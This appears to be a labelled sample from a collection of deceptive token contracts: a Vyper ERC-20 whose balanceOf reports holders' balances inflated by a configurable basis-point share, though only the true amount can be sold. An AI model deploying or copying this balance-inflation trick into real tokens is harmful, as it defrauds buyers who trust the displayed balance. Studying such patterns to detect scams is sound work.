# pragma version 0.4.3
# pragma evm-version cancun
"""
@title Shows a holder more than is there
@notice A holder's balance is shown larger by a fixed share than it is; the
        true amount sells, the amount shown does not.
"""

from ..tokens.lib import erc20
from ..tokens.lib import owned

initializes: erc20
initializes: owned

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.allowance,
    erc20.approve,
    erc20.transfer,
    erc20.transferFrom,
    owned.owner,
)

# Hundredths of a percent.
INFLATION_BPS: public(immutable(uint256))


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256, inflation_bps: uint256):
    erc20.__init__(name, symbol, 18, supply)
    owned.__init__()
    INFLATION_BPS = inflation_bps


@external
@view
def balanceOf(account: address) -> uint256:
    held: uint256 = erc20.balanceOf[account]
    if owned._is_holder(account):
        return held * (10_000 + INFLATION_BPS) // 10_000
    return held
